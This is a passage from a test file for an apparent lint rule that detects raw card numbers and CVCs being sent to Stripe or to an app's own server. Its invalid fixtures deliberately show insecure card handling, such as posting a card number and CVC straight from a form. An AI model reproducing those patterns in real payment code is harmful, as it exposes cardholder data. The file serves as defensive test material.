fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: 'description=${'x'.repeat(20_000)}' });
const n = 1${'0'.repeat(300)};
`,
    },
    {
      // crash safety: Object.prototype names on a Stripe.js instance are not card methods
      code: `
const stripe = Stripe('pk_test_1');
stripe.hasOwnProperty('elements');
stripe.toString({ card: { number: '4242424242424242', cvc: '123' } });
stripe.constructor({ card: { number: '4242424242424242', cvc: '123' } });
stripe.customers.constructor({ card: { number: '4242424242424242', cvc: '123' } });
`,
    },
    {
      // Card vaults (real-world batch EO): a Basis Theory proxy's detokenization expressions and a VGS alias, which the
      // vault's proxy replaces with the card on its way to Stripe; a vault's token written as a literal.
      code: `
import axios from 'axios';
import querystring from 'querystring';
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);
export async function chargeThroughProxy(tokenIntentId, amount) {
  return axios.post(process.env.BT_PROXY_URL, querystring.stringify({
    amount,
    'payment_method_data[type]': 'card',
    'payment_method_data[card][number]': \`{{ token_intent: \${tokenIntentId} | json: "$.data.number" }}\`,
    'payment_method_data[card][cvc]': \`{{ token_intent: \${tokenIntentId} | json: "$.data.cvc" }}\`,
  }), { headers: { 'BT-PROXY-URL': 'https://api.stripe.com/v1/payment_intents' } });
}
export async function provision(cardObject) {
  const api = axios.create({ baseURL: 'https://api.stripe.com' });
  return api.post('/v1/payment_methods', querystring.stringify({
    type: 'card',
    card: { number: cardObject.attributes.pan_alias, cvc: cardObject.attributes.cvc_alias, exp_month: cardObject.exp_month, exp_year: cardObject.exp_year },
  }));
}
export const migrate = () => stripe.paymentMethods.create({ type: 'card', card: { number: 'tok_sandbox_7oJbTZ5yPL3xgbRaRiW5xs' } });
// An Evervault-encrypted card sent through the vault's relay, which decrypts it on the way to Stripe.
const STRIPE_RELAY = 'https://api-stripe-com-app-0123456789ab.relay.evervault.app';
export async function createToken(encryptedCard) {
  const body = new URLSearchParams({ 'card[number]': encryptedCard.number, 'card[exp_month]': encryptedCard.expiry.month, 'card[cvc]': encryptedCard.cvc });
  return (await fetch(\`\${STRIPE_RELAY}/v1/tokens\`, { method: 'POST', body })).json();
}
`,
    },
    {
      // member calls whose name no HTTP client method or client export has are not requests
      code: `
import axios from 'axios';
const api = axios.create({ baseURL: 'https://api.stripe.com' });
api.interceptors.request.use((config) => config);
api.postJson('/v1/tokens', { card: { number: '4242424242424242', cvc: '123' } });
axios.send('https://api.stripe.com/v1/tokens', { card: { number: '4242424242424242', cvc: '123' } });
`,
    },
    {
      // Brokers carry what a payment worker needs of a card: an id, the brand and last four digits, an amount
      // (real-world batch ET)
      code: `import { Kafka } from 'kafkajs';
import { SQSClient, SendMessageCommand } from '@aws-sdk/client-sqs';

const producer = new Kafka({ clientId: 'checkout', brokers: ['kafka:9092'] }).producer();
const sqs = new SQSClient({});

export async function orderPaid(order: { id: string; total: number }, card: { brand: string; last4: string; paymentMethodId: string }) {
  await producer.send({ topic: 'orders.paid', messages: [{ key: order.id, value: JSON.stringify({ orderId: order.id, cardBrand: card.brand, cardLast4: card.last4 }) }] });
  await sqs.send(new SendMessageCommand({ QueueUrl: process.env.RECEIPTS_QUEUE, MessageBody: JSON.stringify({ orderId: order.id, paymentMethod: card.paymentMethodId, amount: order.total }) }));
}
`,
      filename: 'src/orders/publish.ts',
    },
  ],
  invalid: [
    // A card written to a \`let\` on a branch and sent under \`card\` (real-world batch 329: a published NestJS Stripe
    // library's paymentMethods.create); the token it starts with is no card data
    {
      code: `import Stripe from 'stripe';

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY as string);

export async function createPaymentMethod(dto: { token?: string; number?: string; cvc?: string; expMonth?: number; expYear?: number }) {
  let card: Stripe.PaymentMethodCreateParams.Card1 | Stripe.PaymentMethodCreateParams.Card2 = { token: dto.token as string };
  if (dto.number) {
    card = { number: dto.number, cvc: dto.cvc, exp_month: dto.expMonth as number, exp_year: dto.expYear as number };
  }
  return stripe.paymentMethods.create({ type: 'card', card });
}
`,
      filename: 'libs/stripe/src/lib/stripe.service.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.number', what: 'card number (PAN)' }, line: 8, column: 14, endLine: 8, endColumn: 20 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.cvc', what: 'card security code (CVC)' }, line: 8, column: 34, endLine: 8, endColumn: 37 },
      ],
    },
    // A NestJS provider that extends the Stripe class (real-world batch 329): \`this\` in its methods and an injected
    // instance typed with it are clients
    {
      code: `import { Injectable } from '@nestjs/common';
import Stripe from 'stripe';

@Injectable()
export class BillingClient extends Stripe {
  constructor() {
    super(process.env.STRIPE_SECRET_KEY as string);
  }

  addCard(dto: { cardNumber: string; cvc: string }) {
    return this.paymentMethods.create({ type: 'card', card: { number: dto.cardNumber, cvc: dto.cvc, exp_month: 12, exp_year: 2030 } });
  }
}

@Injectable()
export class CardsService {
  constructor(private readonly billing: BillingClient) {}

  add(dto: { cardNumber: string; cvc: string }) {
    return this.billing.tokens.create({ card: { number: dto.cardNumber, cvc: dto.cvc } });
  }
}
`,
      filename: 'src/billing/billing.client.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.number', what: 'card number (PAN)' }, line: 11, column: 63, endLine: 11, endColumn: 69 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.cvc', what: 'card security code (CVC)' }, line: 11, column: 87, endLine: 11, endColumn: 90 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', field: 'card.number', what: 'card number (PAN)' }, line: 20, column: 49, endLine: 20, endColumn: 55 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', field: 'card.cvc', what: 'card security code (CVC)' }, line: 20, column: 73, endLine: 20, endColumn: 76 },
      ],
    },
    // \`ccn\` beside a card's security code: the card's number
    {
      code: `export async function pay(ccn, exp, cvv) {
  await fetch('/api/pay', { method: 'POST', body: JSON.stringify({ ccn, exp, cvv }) });
}
`,
      filename: 'src/checkout/pay.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', field: 'ccn', what: 'card number (PAN)' }, line: 2, column: 68, endLine: 2, endColumn: 71 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', field: 'cvv', what: 'card security code (CVC)' }, line: 2, column: 78, endLine: 2, endColumn: 81 },
      ],
    },
    // ...the same request in the app's code is reported
    {
      code: SANDBOX_CARD_TOKEN,
      filename: inProject('express-api', 'src/payments/createCardToken.ts'),
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.mercadopago.com/v1/card_tokens', field: 'card_number', what: 'card number (PAN)' }, line: 7, column: 7, endLine: 7, endColumn: 18 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.mercadopago.com/v1/card_tokens', field: 'security_code', what: 'card security code (CVC)' }, line: 10, column: 7, endLine: 10, endColumn: 20 },
      ],
    },
    {
      // ...not with a security code, which no simulated reader takes, nor without the reader's id
      code: `// The same page posting a card's security code beside it: no simulated reader takes one
let readerId;

export function simulatePayment(cvc) {
  return fetch('/simulate_payment', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ reader_id: readerId, card_number: document.getElementById('card-number-input').value, cvc }),
  });
}

export function pay() {
  return fetch('/simulate_payment', { method: 'POST', body: JSON.stringify({ card_number: document.getElementById('card-number-input').value }) });
}
`,
      filename: 'public/client.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /simulate_payment', field: 'card_number', what: 'card number (PAN)' }, line: 8, column: 49, endLine: 8, endColumn: 60 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /simulate_payment', field: 'cvc', what: 'card security code (CVC)' }, line: 8, column: 114, endLine: 8, endColumn: 117 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /simulate_payment', field: 'card_number', what: 'card number (PAN)' }, line: 13, column: 78, endLine: 13, endColumn: 89 },
      ],
    },
    {
      // Node's XMLHttpRequest polyfills, required whole or by name (real-world batch 266: a gateway client posting the card
      // to NMI); a module of the app's own that exports a class of that name is not one.
      code: `function doOffline(ccnumber, ccexp) {
  var XMLHttpRequest = require('xmlhttprequest').XMLHttpRequest;
  var xhr = new XMLHttpRequest();
  xhr.open('POST', 'https://secure.nmi.com/api/transact.php', true);
  xhr.send('ccnumber=' + encodeURIComponent(ccnumber) + '&ccexp=' + ccexp);
}
function viaXhr2(cardNumber) {
  const XHR = require('xhr2');
  const { XMLHttpRequest: Other } = require('xmlhttprequest-ssl');
  const req = new XHR();
  req.open('POST', '/api/cards');
  req.send(JSON.stringify({ cardNumber }));
  const other = new Other();
  other.open('POST', '/api/cards');
  other.send(JSON.stringify({ cardNumber }));
  const Fake = require('./xhr').XMLHttpRequest;
  const fake = new Fake();
  fake.open('POST', '/api/cards');
  fake.send(JSON.stringify({ cardNumber }));
}
module.exports = { doOffline, viaXhr2 };
`,
      filename: 'gwapi.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'XMLHttpRequest', endpoint: 'POST secure.nmi.com/api/transact.php', field: 'ccnumber', what: 'card number (PAN)' }, line: 5, column: 12, endLine: 5, endColumn: 74 },
        { messageId: 'rawCardToOwnServer', data: { client: 'XMLHttpRequest', endpoint: 'POST /api/cards', field: 'cardNumber', what: 'card number (PAN)' }, line: 12, column: 29, endLine: 12, endColumn: 39 },
        { messageId: 'rawCardToOwnServer', data: { client: 'XMLHttpRequest', endpoint: 'POST /api/cards', field: 'cardNumber', what: 'card number (PAN)' }, line: 15, column: 31, endLine: 15, endColumn: 41 },
      ],
    },
    {
      // The app's API client imported by the bare name its jsconfig's baseUrl resolves (\`import api from 'api'\` for
      // src/api.js), and under a paths alias (\`@lib/http\`): read as the app's own module (precision probe 294).
      code: readFileSync(inProject('cra-baseurl-shop', 'src/checkout/renew.js'), 'utf8'),
      filename: inProject('cra-baseurl-shop', 'src/checkout/renew.js'),
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '`api`', endpoint: 'POST /sales/renew', field: 'card.card_number', what: 'card number (PAN)' }, line: 7, column: 78, endLine: 7, endColumn: 89 },
        { messageId: 'rawCardToOwnServer', data: { client: '`api`', endpoint: 'POST /sales/renew', field: 'card.cvv', what: 'card security code (CVC)' }, line: 7, column: 91, endLine: 7, endColumn: 94 },
        { messageId: 'rawCardToOwnServer', data: { client: '`http`', endpoint: 'PUT /cards/…', field: 'number', what: 'card number (PAN)' }, line: 11, column: 79, endLine: 11, endColumn: 85 },
        { messageId: 'rawCardToOwnServer', data: { client: '`http`', endpoint: 'PUT /cards/…', field: 'cvc', what: 'card security code (CVC)' }, line: 11, column: 87, endLine: 11, endColumn: 90 },
      ],
    },
    {
      // The app's client given one of two paths (precision probe 294: a checkout's renewal of one card or of all its
      // subscriptions): both are its own server's.
      code: `import api from './api';

export function pay(getValues, single) {
  const endpoint = single ? '/sales/card' : '/sales/subscriptions';
  return api.post(endpoint, { card: { card_number: getValues('number'), cvv: getValues('cvc') } });
}
`,
      filename: 'src/checkout/pay.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '`api`', endpoint: 'POST /sales/…', field: 'card.card_number', what: 'card number (PAN)' }, line: 5, column: 39, endLine: 5, endColumn: 50 },
        { messageId: 'rawCardToOwnServer', data: { client: '`api`', endpoint: 'POST /sales/…', field: 'card.cvv', what: 'card security code (CVC)' }, line: 5, column: 73, endLine: 5, endColumn: 76 },
      ],
    },
    {
      // ...also where a `let` is given the path on both branches of an `if` (precision probe 294: the same checkout's
      // other form), its empty start overwritten before the request.
      code: `import api from './api';

export async function renew(data, single) {
  let endpoint = '';
  if (single) {
    endpoint = '/sales/card';
  } else {
    endpoint = '/sales/subscriptions';
  }
  await api.put(endpoint, { card_number: data.cardNumber, cvv: data.cvv });
}
`,
      filename: 'src/checkout/renew.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '\`api\`', endpoint: 'PUT /sales/…', field: 'card_number', what: 'card number (PAN)' }, line: 10, column: 29, endLine: 10, endColumn: 40 },
        { messageId: 'rawCardToOwnServer', data: { client: '\`api\`', endpoint: 'PUT /sales/…', field: 'cvv', what: 'card security code (CVC)' }, line: 10, column: 59, endLine: 10, endColumn: 62 },
      ],
    },
    {
      // The app's own client required by CommonJS, whole or destructured (real-world batch 266: a wallet's card charge
      // through `require('../request')`), as an import is read; a module named for no client is not one.
      code: `const { request } = require('../request');
const api = require('../api');
const cache = require('../cache');
async function chargeCard({ cardNumber, cvv }) {
  await api.post('/cards', { number: cardNumber });
  await cache.post('/cards', { number: cardNumber });
  return request.post('/charge', { card: { number: cardNumber, cvv } });
}
module.exports = { chargeCard };
`,
      filename: 'payment-channel/card.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '`api`', endpoint: 'POST /cards', field: 'number', what: 'card number (PAN)' }, line: 5, column: 38, endLine: 5, endColumn: 48 },
        { messageId: 'rawCardToOwnServer', data: { client: '`request`', endpoint: 'POST /charge', field: 'card.number', what: 'card number (PAN)' }, line: 7, column: 44, endLine: 7, endColumn: 50 },
        { messageId: 'rawCardToOwnServer', data: { client: '`request`', endpoint: 'POST /charge', field: 'card.cvv', what: 'card security code (CVC)' }, line: 7, column: 64, endLine: 7, endColumn: 67 },
      ],
    },
    {
      // The app's own client's verb imported alone, and its module required in place (real-world batch 267's misses);
      // a \`request(url, body)\` of the same module is left alone: its arguments could be a config.
      code: `import { post, request } from '@/lib/api';

export async function saveCard(card: { number: string; cvc: string }) {
  await post('/wallet/cards', { cardNumber: card.number });
  await require('@/lib/api').put('/wallet/cards/default', { cvc: card.cvc });
  await request('/wallet/cards', { cardNumber: card.number });
}
`,
      filename: 'src/wallet/cards.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '\`post\`', endpoint: 'POST /wallet/cards', field: 'cardNumber', what: 'card number (PAN)' }, line: 4, column: 33, endLine: 4, endColumn: 43 },
        { messageId: 'rawCardToOwnServer', data: { client: "\`require('@/lib/api')\`", endpoint: 'PUT /wallet/cards/default', field: 'cvc', what: 'card security code (CVC)' }, line: 5, column: 61, endLine: 5, endColumn: 64 },
      ],
    },
    {
      // A bare `cc` beside a CVC is the card's number, unless what it holds says otherwise: a mail's copies (a name with
      // more words than the key), a list held in a const.
      code: `import axios from 'axios';
const COPIES = ['accounts@shop.example'];
export async function charge(card: { cc: string; cvv: string }, mail: { ccAddresses: string[] }) {
  await axios.post('/api/receipts', { cc: mail.ccAddresses, cvv: card.cvv });
  await axios.post('/api/receipts', { cc: COPIES, cvv: card.cvv });
  await axios.post('/api/charge', { cc: card.cc, cvv: card.cvv });
}
`,
      filename: 'src/checkout/charge.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/receipts', field: 'cvv', what: 'card security code (CVC)' }, line: 4, column: 61, endLine: 4, endColumn: 64 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/receipts', field: 'cvv', what: 'card security code (CVC)' }, line: 5, column: 51, endLine: 5, endColumn: 54 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/charge', field: 'cc', what: 'card number (PAN)' }, line: 6, column: 37, endLine: 6, endColumn: 39 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/charge', field: 'cvv', what: 'card security code (CVC)' }, line: 6, column: 50, endLine: 6, endColumn: 53 },
      ],
    },
    {
      // An axios instance from an async factory of the file, awaited (real-world batch 256: a Vue app's wallet service).
      code: `import axios from 'axios';
import { useAuthStore } from '@/stores/auth';

async function apiClient() {
  const auth = useAuthStore();
  const token = await auth.freshToken();
  return axios.create({ baseURL: '/api/v1', headers: { Authorization: \`Bearer \${token}\` } });
}

export async function addCard(card: { number: string; cvc: string; expMonth: number; expYear: number }) {
  const api = await apiClient();
  const { data } = await api.post('/wallet/cards', { cardNumber: card.number, cvc: card.cvc, expMonth: card.expMonth, expYear: card.expYear });
  return data;
}
`,
      filename: 'src/services/wallet.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/v1/wallet/cards', field: 'cardNumber', what: 'card number (PAN)' }, line: 12, column: 54, endLine: 12, endColumn: 64 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/v1/wallet/cards', field: 'cvc', what: 'card security code (CVC)' }, line: 12, column: 79, endLine: 12, endColumn: 82 },
      ],
    },
    {
      // A bare `cc` beside a CVC and an expiry is the card's number (real-world batch 254: a jQuery checkout posting its
      // own card fields)
      code: `$('#pay').on('click', function () {
  $.post('/charge.php', { name: $('#name').val(), cc: $('#cc').val(), cvv: $('#cvv').val(), expire: $('#expire').val(), amount: 25 });
});
`,
      filename: 'public/js/checkout.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'jQuery', endpoint: 'POST /charge.php', field: 'cc', what: 'card number (PAN)' }, line: 2, column: 51, endLine: 2, endColumn: 53 },
        { messageId: 'rawCardToOwnServer', data: { client: 'jQuery', endpoint: 'POST /charge.php', field: 'cvv', what: 'card security code (CVC)' }, line: 2, column: 71, endLine: 2, endColumn: 74 },
      ],
    },
    {
      // Someone's credit's number beside a CVC is the card's (regression probe 260: the credit-note reading must not
      // drop it); a bare `cc` holding a list beside a CVC is a mail's copies, no card number
      code: `export async function pay(customer_credit_number, cvv, exp_month, exp_year) {
  await fetch('/api/pay', { method: 'POST', body: JSON.stringify({ customer_credit_number, cvv, exp_month, exp_year }) });
}
export async function notify(cvv) {
  await fetch('/api/mail', { method: 'POST', body: JSON.stringify({ cc: ['billing@shop.example'], cvv }) });
}
`,
      filename: 'src/checkout.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', field: 'customer_credit_number', what: 'card number (PAN)' }, line: 2, column: 68, endLine: 2, endColumn: 90 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/pay', field: 'cvv', what: 'card security code (CVC)' }, line: 2, column: 92, endLine: 2, endColumn: 95 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/mail', field: 'cvv', what: 'card security code (CVC)' }, line: 5, column: 99, endLine: 5, endColumn: 102 },
      ],
    },
    {
      // A key that says its value is in the clear (`unencryptedPayload`, `nonEncryptedCode`) is read by its value, as a
      // neutral key is; one that says it is encrypted is trusted (see the valid `cartPieEncryptedData` case)
      code: `export async function syncCard(card) {
  await fetch('https://api.example-vault.com/cards', {
    method: 'POST',
    body: JSON.stringify({ unencryptedPayload: card.number, nonEncryptedCode: card.cvc, encryptedPayload: card.number }),
  });
}
`,
      filename: 'src/vault-sync.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.example-vault.com/cards', field: 'unencryptedPayload', what: 'card number (PAN)' }, line: 4, column: 48, endLine: 4, endColumn: 59 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.example-vault.com/cards', field: 'nonEncryptedCode', what: 'card security code (CVC)' }, line: 4, column: 79, endLine: 4, endColumn: 87 },
      ],
    },
    {
      // A form model named for a card, its bare \`number\` beside the card's expiry and security code, posted whole
      // (real-world batch 246: an Ionic hotel app's payment page); a card model of a title and a number says no payment card
      code: `import { Component } from '@angular/core';
import { HttpClient } from '@angular/common/http';

@Component({ selector: 'page-payment', templateUrl: 'payment.html' })
export class PaymentPage {
  card = { name: '', number: null, expiryDate: null, securityCode: null };
  draftCard = { title: '', number: '' };
  constructor(private http: HttpClient) {}
  pay() {
    this.http.post('https://api.hotel.example/payments', this.card).subscribe();
  }
  save() {
    this.http.post('https://api.hotel.example/notes', this.draftCard).subscribe();
  }
}
`,
      filename: 'src/pages/payment/payment.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'POST api.hotel.example/payments', field: 'number, securityCode', what: 'card number (PAN) and card security code (CVC)' }, line: 10, column: 58, endLine: 10, endColumn: 67 },
      ],
    },
    {
      // The form model held in a const first, then posted (real-world batch 251)
      code: `import { Component } from '@angular/core';
import { HttpClient } from '@angular/common/http';

@Component({ selector: 'app-pay', templateUrl: './pay.component.html' })
export class PayComponent {
  card = { cardNumber: '', cvv: '' };
  constructor(private http: HttpClient) {}
  pay() {
    const body = this.card;
    this.http.post('/api/pay', body).subscribe();
  }
}
`,
      filename: 'src/app/pay/pay.component.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'POST /api/pay', field: 'cardNumber, cvv', what: 'card number (PAN) and card security code (CVC)' }, line: 10, column: 32, endLine: 10, endColumn: 36 },
      ],
    },
    {
      // Angular's HttpClient injected into a private field (\`#http = inject(HttpClient)\`; real-world batch 282's leftover)
      code: `import { Injectable, inject } from '@angular/core';
import { HttpClient } from '@angular/common/http';

@Injectable({ providedIn: 'root' })
export class PaymentService {
  readonly #http = inject(HttpClient);

  pay(form: { cardNumber: string; cvc: string; amount: number }) {
    return this.#http.post('/api/payments', { cardNumber: form.cardNumber, cvc: form.cvc, amount: form.amount });
  }
}
`,
      filename: 'src/app/payment.service.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'POST /api/payments', field: 'cardNumber', what: 'card number (PAN)' }, line: 9, column: 47, endLine: 9, endColumn: 57 },
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'POST /api/payments', field: 'cvc', what: 'card security code (CVC)' }, line: 9, column: 76, endLine: 9, endColumn: 79 },
      ],
    },
    {
      // Angular 2–4's \`Http\` (an Ionic 3 page) posting the form model, and a model spread into the body (real-world batch 251)
      code: `import { Component } from '@angular/core';
import { Http } from '@angular/http';
import { HttpClient } from '@angular/common/http';

@Component({ selector: 'page-pay', templateUrl: 'pay.html' })
export class PayPage {
  card = { number: '', expMonth: '', expYear: '', cvc: '' };
  donation = { cardNumber: '', cvv: '', amount: 0 };
  constructor(public http: Http, private client: HttpClient) {}
  pay() {
    this.http.post('https://api.shop.example/processpay', this.card).subscribe();
  }
  donate() {
    this.client.post('/api/donations', { ...this.donation, campaign: 'spring' }).subscribe();
  }
}
`,
      filename: 'src/pages/pay/pay.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'Http', endpoint: 'POST api.shop.example/processpay', field: 'number, cvc', what: 'card number (PAN) and card security code (CVC)' }, line: 11, column: 59, endLine: 11, endColumn: 68 },
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'POST /api/donations', field: 'cardNumber, cvv', what: 'card number (PAN) and card security code (CVC)' }, line: 14, column: 45, endLine: 14, endColumn: 58 },
      ],
    },
    {
      // Hybrid apps' native HTTP (real-world batch 246): Capacitor's \`CapacitorHttp\` and cordova-plugin-advanced-http's
      // \`HTTP\`, injected by type; the last four digits are no card data
      code: `import { Injectable } from '@angular/core';
import { CapacitorHttp } from '@capacitor/core';
import { HTTP } from '@awesome-cordova-plugins/http/ngx';

@Injectable({ providedIn: 'root' })
export class PaymentService {
  constructor(private http: HTTP) {}

  async charge(card: { number: string; cvc: string; expiry: string }) {
    await CapacitorHttp.post({ url: 'https://api.shop.example/charge', data: { cardNumber: card.number, cvc: card.cvc } });
    return this.http.post('https://api.shop.example/cards', { cardNumber: card.number, expiry: card.expiry }, {});
  }

  async saveLast4(card: { number: string }) {
    return CapacitorHttp.post({ url: 'https://api.shop.example/last4', data: { last4: card.number.slice(-4) } });
  }
}
`,
      filename: 'src/app/services/payment.service.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'CapacitorHttp', endpoint: 'POST api.shop.example/charge', field: 'cardNumber', what: 'card number (PAN)' }, line: 10, column: 80, endLine: 10, endColumn: 90 },
        { messageId: 'rawCardToOwnServer', data: { client: 'CapacitorHttp', endpoint: 'POST api.shop.example/charge', field: 'cvc', what: 'card security code (CVC)' }, line: 10, column: 105, endLine: 10, endColumn: 108 },
        { messageId: 'rawCardToOwnServer', data: { client: 'cordova HTTP', endpoint: 'POST api.shop.example/cards', field: 'cardNumber', what: 'card number (PAN)' }, line: 11, column: 63, endLine: 11, endColumn: 73 },
      ],
    },
    {
      // A component's form model sent whole, \`this.http.post(url, this.card)\` with \`card = { cardNumber: '', cvv: '' }\`
      // (real-world batch 246: an Ionic page): what the form holds once filled in; a record of its errors is not
      code: `import { Component } from '@angular/core';
import { HttpClient } from '@angular/common/http';

@Component({ selector: 'app-pay', templateUrl: 'pay.page.html' })
export class PayPage {
  card = { name: '', cardNumber: '', cvv: '', expiry: '' };
  errors = { cardNumber: '', cvv: '' };
  constructor(private http: HttpClient) {}
  pay() {
    this.http.post('https://api.example.com/payments', this.card).subscribe();
  }
  report() {
    this.http.post('https://api.example.com/form-errors', this.errors).subscribe();
  }
}
`,
      filename: 'src/app/pay/pay.page.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'POST api.example.com/payments', field: 'cardNumber, cvv', what: 'card number (PAN) and card security code (CVC)' }, line: 10, column: 56, endLine: 10, endColumn: 65 },
      ],
    },
    {
      // A CardField's full details posted whole to the app's server (real-world batch 234): the SDK's type gives them
      // the card's number and CVC; the same callback without the prop posts none
      code: `import { CardField } from '@stripe/stripe-react-native';
import axios from 'axios';

export const CardStep = ({ api }) => (
  <>
    <CardField dangerouslyGetFullCardDetails onCardChange={(details) => axios.post(\`\${api}/cards\`, details)} />
    <CardField onCardChange={(details) => axios.post(\`\${api}/cards\`, details)} />
  </>
);
`,
      filename: 'src/screens/CardStep.jsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST …/cards', field: 'number, cvc', what: 'card number (PAN) and card security code (CVC)' }, line: 6, column: 100, endLine: 6, endColumn: 107 },
      ],
    },
    {
      // Inertia's forms and router post to the app's own server (real-world batch HD: Laravel checkouts and donation
      // pages): a Vue 3 form's post, the React form's destructured post, Vue 2's this.$inertia.form kept in data(),
      // the router's post and visit
      code: `import { useForm, router } from '@inertiajs/vue3';
import { useForm as useReactForm } from '@inertiajs/react';

export function checkout(route) {
  const form = useForm('Checkout', { card_number: '', cvc: '', expiry: '' });
  form.post(route('checkout.pay'));
}

export function Donate() {
  const { data, setData, post } = useReactForm({ card_no: '', card_ccv: '', amount: 25 });
  return { data, setData, submit: () => post('/donate') };
}

export const DonationOptions = {
  data() {
    return { form: this.$inertia.form({ card_name: '', card_no: '', card_ccv: '' }) };
  },
  methods: {
    donate() {
      this.form.submit('post', '/donations');
    },
  },
};

export function retry(card) {
  router.post('/pay', { card_number: card.number, cvc: card.cvc });
  router.visit('/pay', { method: 'put', data: { cardNumber: card.number } });
}
`,
      filename: 'resources/js/payments.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'Inertia', endpoint: 'POST a URL computed at run time', field: 'card_number, cvc', what: 'card number (PAN) and card security code (CVC)' }, line: 6, column: 3, endLine: 6, endColumn: 7 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Inertia', endpoint: 'POST /donate', field: 'card_no, card_ccv', what: 'card number (PAN) and card security code (CVC)' }, line: 10, column: 35, endLine: 10, endColumn: 90 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Inertia', endpoint: 'POST /donations', field: 'card_no, card_ccv', what: 'card number (PAN) and card security code (CVC)' }, line: 20, column: 7, endLine: 20, endColumn: 16 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Inertia', endpoint: 'POST /pay', field: 'card_number', what: 'card number (PAN)' }, line: 26, column: 25, endLine: 26, endColumn: 36 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Inertia', endpoint: 'POST /pay', field: 'cvc', what: 'card security code (CVC)' }, line: 26, column: 51, endLine: 26, endColumn: 54 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Inertia', endpoint: 'PUT /pay', field: 'cardNumber', what: 'card number (PAN)' }, line: 27, column: 49, endLine: 27, endColumn: 59 },
      ],
    },
    {
      // A react-hook-form form whose options give no values (a yup resolver): the data its submit handler gets has the
      // keys it registers, card number and CVC among them, posted to the app's own API
      code: `import { useForm } from 'react-hook-form';
import { yupResolver } from '@hookform/resolvers/yup';
import { paymentSchema } from './schema';

export function PaymentForm() {
  const { register, handleSubmit, formState: { errors } } = useForm({ mode: 'onBlur', resolver: yupResolver(paymentSchema) });
  const onSubmit = (data) => fetch('/api/payments', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(data) });
  return (
    <form onSubmit={handleSubmit(onSubmit)}>
      <input {...register('cardholderName')} placeholder="Name on card" />
      <input {...register('cardNumber')} inputMode="numeric" />
      <input {...register('expiry')} placeholder="MM/YY" />
      <input {...register('cvc')} inputMode="numeric" />
      {errors.cardNumber && <p>{errors.cardNumber.message}</p>}
      <button type="submit">Pay</button>
    </form>
  );
}
`,
      filename: 'src/checkout/PaymentForm.jsx',
      output: null,
      errors: [
